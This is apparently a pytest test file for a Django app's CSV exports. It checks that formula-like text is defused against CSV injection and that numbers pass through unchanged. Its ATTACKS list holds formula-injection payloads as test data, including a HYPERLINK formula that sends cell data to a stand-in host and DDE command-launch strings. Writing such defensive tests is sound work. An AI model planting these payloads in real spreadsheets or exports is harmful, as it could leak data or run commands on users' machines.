"""One CSV writer (annotate.infra.csvfile) for every CSV the app writes: formula-like text is defused with a
leading quote (OWASP, "CSV Injection"), numbers stay numbers; each of the app's CSV files goes through it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from annotate.dashboards import charts
from annotate.exports.tables import stream
from annotate.infra import csvfile
from annotate.kinds.forced_choice import results as fc_results
from annotate.models import Document
from annotate.tasks import results as kind_results
from tests.annotate.test_exports import answered  # noqa: F401 (a fixture)

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_is_quoted(attack):
    assert csvfile.safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("number", [-0.5, 3, -7, 1e-9, "-0.5", "+3", "-1e-3", ".5", "-12.", "0"])
def test_numbers_stay_numbers(number):
    assert csvfile.safe_cell(number) == number


@pytest.mark.parametrize("text", ["plain", "a=b", "", "x-1", "é"])
def test_other_text_is_untouched(text):
    assert csvfile.safe_cell(text) == text


def test_none_is_empty_and_streaming_matches_the_whole_text():
    rows = [["=1+1", None, -0.5], ["ok", "-0.5", "@x"]]
    text = csvfile.csv_text(["a", "b", "c"], rows, lineterminator="\r\n")
    assert "".join(csvfile.stream_csv(["a", "b", "c"], rows)) == text
    assert read(text) == [["a", "b", "c"], ["'=1+1", "", "-0.5"], ["ok", "-0.5", "'@x"]]


def test_study_exports_are_defused(answered):  # noqa: F811
    study = answered[0]
    document = study.items.filter(responses__isnull=False).first().document
    Document.objects.filter(pk=document.pk).update(external_id=ATTACKS[0], label=ATTACKS[1])
    responses = read("".join(stream(study, "responses", "csv")))
    header = responses[0]
    cells = [row[header.index("document")] for row in responses[1:]]
    assert "'" + ATTACKS[0] in cells and ATTACKS[0] not in cells
    items = read("".join(stream(study, "items", "csv")))
    header = items[0]
    assert "'" + ATTACKS[1] in [row[header.index("document_label")] for row in items[1:]]


def test_aggregated_labels_are_defused(answered, admin_user):  # noqa: F811
    study = answered[0]
    document = study.items.filter(responses__isnull=False).first().document
    Document.objects.filter(pk=document.pk).update(external_id=ATTACKS[2])
    client = Client()
    client.force_login(admin_user)
    page = client.get(reverse("quality-aggregate", args=[study.uid, "csv"]))
    assert page.status_code == 200
    rows = read(page.content.decode())
    documents = [row[rows[0].index("document")] for row in rows[1:]]
    assert "'" + ATTACKS[2] in documents and ATTACKS[2] not in documents


def test_kind_results_and_dashboards_are_defused(monkeypatch):
    row = [ATTACKS[3], -0.5, "-0.5", float("nan"), None, ATTACKS[4]]
    expected = ["'" + ATTACKS[3], "-0.5", "-0.5", "", "", "'" + ATTACKS[4]]
    assert read(kind_results.csv_text(list("abcdef"), [row]))[1] == expected
    monkeypatch.setattr(fc_results, "table_rows", lambda results, table: (list("abcdef"), [row]))
    assert read(fc_results.csv_text({}, "scores"))[1] == expected
    chart_row = [ATTACKS[3], -0.5, "-0.5", None, ATTACKS[4]]
    assert read(charts.to_csv(list("abcde"), [chart_row]))[1] == ["'" + ATTACKS[3], "-0.5", "-0.5", "",
                                                                  "'" + ATTACKS[4]]  # fmt: skip


def test_no_other_csv_writer_in_the_app():
    """Every CSV the app writes goes through annotate.infra.csvfile: no other module builds a csv writer."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "annotate").rglob("*.py")
        if path.name != "csvfile.py" and writers.search(path.read_text())
    ]
    assert found == []
